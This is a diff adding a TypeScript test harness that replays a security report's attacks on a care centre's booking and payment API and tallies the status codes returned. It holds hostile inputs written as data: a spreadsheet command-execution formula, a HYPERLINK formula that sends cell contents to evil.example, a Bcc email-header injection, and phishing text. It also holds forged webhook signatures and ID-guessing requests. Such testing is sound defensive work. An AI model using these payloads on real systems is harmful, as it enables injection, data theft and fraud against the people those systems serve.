@@ -1,0 +1,176 @@
+import { randomUUID } from 'node:crypto'
+import { setTimeout as sleep } from 'node:timers/promises'
+import { DEMO_PASSWORD } from '@alba/contracts/accounts/password'
+import { type Answer, send } from '../visitor.ts'
+import { type Client, type Ground, startsOn } from './ground.ts'
+
+/** What a stranger would have the centre write to somebody, or bring into its lists. Found in no mail to anybody outside. */
+export const STRANGERS_WORDS = ['evil.example', 'URGENT', 'IBAN'] as const
+const names = [
+  'URGENT votre compte est bloqué : evil.example',
+  "Zoe;=cmd|' /C calc'!A0;x",
+  'IBAN CHANGE - call 06 99 99 99 99',
+  'Zoé Martin',
+]
+/** Somebody who is known to the centre, and whom strangers try to rename. */
+export const knownClient = { name: 'Vera Victime', email: 'vera@honest.example', phone: '06 12 00 00 01' } as const
+/** Whom strangers would have the centre write to. */
+export const THIRD_PARTY = 'third-party.example'
+
+type Hold = { readonly id: number }
+type Intent = { readonly id: string; readonly secret: string }
+/** One address, and what it has got hold of. */
+type Stranger = { readonly client: Client; readonly holds: Hold[]; readonly intents: Intent[] }
+type Attack = (ground: Ground, stranger: Stranger) => Promise<Answer | undefined>
+
+/** How often which attack was answered with which status. */
+export type Answers = Map<string, Map<number, number>>
+
+const victim = ({ random }: Ground) => `victim-${random.below(40)}@${THIRD_PARTY}`
+
+async function hold(ground: Ground, { client, holds }: Stranger, who: object = {}): Promise<Answer | undefined> {
+  const { random } = ground
+  const serviceId = random.pick(ground.allServiceIds)
+  const starts = await startsOn(client, serviceId, random.pick(ground.dates))
+  if (starts.length === 0) return undefined
+  const answer = await client('POST', '/api/bookings', {
+    service_id: serviceId,
+    start_time: random.pick(starts),
+    customer_name: random.pick(names),
+    customer_email: victim(ground),
+    customer_phone: `06 ${10 + random.below(90)} ${10 + random.below(90)} 34 56`,
+    notes: 'bonjour\n=HYPERLINK("http://evil.example/?"&A1;"ouvrir")',
+    terms_accepted: true,
+    ...who,
+  })
+  if (answer.status === 201) holds.push(answer.body as Hold)
+  return answer
+}
+
+async function begin({ client, intents }: Stranger, target: object): Promise<Answer> {
+  const answer = await client('POST', '/api/payments/create-intent', target)
+  if (answer.status === 200) {
+    const { payment_intent_id: id, client_secret: secret } = answer.body as Record<string, string>
+    if (id && secret) intents.push({ id, secret })
+  }
+  return answer
+}
+
+async function orderVoucher(ground: Ground, { client }: Stranger, key: string = randomUUID()): Promise<Answer> {
+  const body = {
+    amount_cents: 1_000,
+    purchaser_firstname: 'URGENT',
+    purchaser_name: 'evil.example',
+    purchaser_email: victim(ground),
+    recipient_email: victim(ground),
+    personal_message: 'https://evil.example/connexion',
+  }
+  return client('POST', '/api/gift-vouchers', body, { 'idempotency-key': key })
+}
+
+const signIn = (client: Client, email: string) => client('POST', '/api/auth/login', { email, password: randomUUID() })
+const someId = ({ random }: Ground) => 100_000_000_000_000 + random.below(900_000_000_000_000)
+const someCode = ({ random }: Ground) =>
+  Array.from({ length: 12 }, () => random.pick([...'ABCDEFGHJKMNPQRSTUVWXYZ23456789'])).join('')
+
+/** Everything that the security report tried, a request or two each. */
+const attacks: Readonly<Record<string, Attack>> = {
+  'hold a time': (ground, stranger) => hold(ground, stranger),
+  'hold a time for few to know': (ground, stranger) =>
+    hold(ground, stranger, { customer_email: `${randomUUID().slice(0, 8)}@${THIRD_PARTY}` }),
+  'rename a client': (ground, stranger) =>
+    hold(ground, stranger, { customer_email: knownClient.email, customer_name: names[2] }),
+  'begin to pay': async (ground, stranger) => {
+    const [last] = stranger.holds.slice(-1)
+    return last && begin(stranger, { type: 'booking', booking_id: last.id, customer_email: victim(ground) })
+  },
+  'give back and hold again': async (ground, stranger) => {
+    const [first] = stranger.holds.splice(0, 1)
+    if (first) await stranger.client('PATCH', `/api/bookings/${first.id}/cancel`)
+    return hold(ground, stranger)
+  },
+  'withdraw in words': (ground, { client }) =>
+    client('POST', '/api/withdrawals', {
+      name: 'URGENT votre compte est bloqué : https://evil.example/connexion',
+      email: victim(ground),
+      reference: 'Cliquez http://evil.example/p',
+    }),
+  'withdraw in a known form': (ground, { client }) =>
+    client('POST', '/api/withdrawals', { name: 'Zoé Martin', email: victim(ground), reference: someCode(ground) }),
+  'withdraw with line ends': (ground, { client }) =>
+    client('POST', '/api/withdrawals', {
+      name: 'Ann\r\nBcc: spy@evil.example',
+      email: victim(ground),
+      reference: someCode(ground),
+    }),
+  'a wrong password for a nurse': ({ random }, { client }) =>
+    signIn(client, `${random.pick(['camille', 'ines'])}@maison-alba.example`),
+  'a wrong password for nobody': (_, { client }) => signIn(client, `${randomUUID().slice(0, 8)}@${THIRD_PARTY}`),
+  "end a nurse's session": ({ leaked }, { client }) =>
+    client('POST', '/api/auth/refresh', { refresh_token: `${leaked.family ?? 'none'}.${randomUUID()}` }),
+  'a second step without a first': (_, { client }) =>
+    client('POST', '/api/auth/login/recovery-code', { login_token: 'made-up', recovery_code: 'ABCDE-FGHJK-MN' }),
+  'add a passkey': (_, { client }) => client('POST', '/api/auth/passkeys/options', { password: DEMO_PASSWORD }),
+  'read the back office': (_, { client }) =>
+    client('GET', '/api/backoffice/bookings', undefined, { authorization: 'Bearer made.up.token' }),
+  'guess a code': (ground, { client }) => client('GET', `/api/gift-vouchers/${someCode(ground)}/with-service`),
+  'guess a voucher': (ground, { client }) => client('GET', `/api/gift-vouchers/by-id/${someId(ground)}`),
+  'guess a purchase': (ground, { client }) => client('GET', `/api/packages/purchases/${someId(ground)}`),
+  'guess a booking': (ground, { client }) => client('GET', `/api/bookings/${someId(ground)}`),
+  'guess a questionnaire': (ground, { client }) =>
+    client('GET', `/api/questionnaires/validate-booking/${someId(ground)}`),
+  'guess a PDF': (ground, { client }) => client('GET', `/api/gift-vouchers/${someCode(ground)}/download-pdf`),
+  'order a voucher and begin to pay': async (ground, stranger) => {
+    const ordered = await orderVoucher(ground, stranger)
+    if (ordered.status !== 201) return ordered
+    return begin(stranger, { type: 'voucher', voucher_id: (ordered.body as Hold).id })
+  },
+  "take a package's vouchers": async (ground, stranger) => {
+    const { purchaseId } = ground.leaked
+    return purchaseId === undefined
+      ? undefined
+      : orderVoucher(ground, stranger, `purchase-${purchaseId}-${ground.random.below(3)}`)
+  },
+  'try a stolen card': async ({ stack, random }, { intents }) => {
+    const [last] = intents.slice(-1)
+    if (!last) return undefined
+    const body = { client_secret: last.secret, test_card: random.pick(['declined', 'insufficient_funds']) }
+    return send('POST', `${stack.urls.sandbox}/v1/browser/payment_intents/${last.id}/confirm`, body)
+  },
+  'ask how a payment stands': async ({ random }, { client, intents }) =>
+    intents.length > 0 ? client('GET', `/api/payments/intent/${random.pick(intents).id}`) : undefined,
+  'forge a webhook': (_, { client }) =>
+    client(
+      'POST',
+      '/api/webhooks/stripe',
+      { id: 'evt_1', type: 'payment_intent.succeeded' },
+      { 'stripe-signature': `t=${Math.floor(Date.now() / 1_000)},v1=${'0'.repeat(64)}` },
+    ),
+  'count page views': (_, { client }) => client('POST', '/api/analytics/page-views', { path: '/reservation' }),
+  'read the metrics': (_, { client }) => client('GET', '/metrics'),
+  'a path that is none': (_, { client }) => client('GET', '/%'),
+  'a body that is too large': (_, { client }) =>
+    client('POST', '/api/bookings', { customer_name: 'x'.repeat(300_000) }),
+}
+
+/** Attacks from one address until it is told to stop: each in its turn, so many requests a second. */
+export async function attack(
+  ground: Ground,
+  address: string,
+  { perSecond, answers, signal }: { perSecond: number; answers: Answers; signal: AbortSignal },
+): Promise<void> {
+  const stranger: Stranger = { client: ground.from(address), holds: [], intents: [] }
+  const turns = Object.entries(attacks)
+  for (let turn = ground.random.below(turns.length); !signal.aborted; turn++) {
+    const [name, strike] = turns[turn % turns.length] ?? ground.random.pick(turns)
+    // 0: no answer, as while the gateway is started again.
+    const answer = await strike(ground, stranger).catch(() => ({ status: 0 }))
+    if (answer) count(answers, name, answer.status)
+    await sleep(1_000 / perSecond)
+  }
+}
+
+function count(answers: Answers, name: string, status: number): void {
+  const byStatus = answers.get(name) ?? new Map<number, number>()
+  answers.set(name, byStatus.set(status, (byStatus.get(status) ?? 0) + 1))
+}
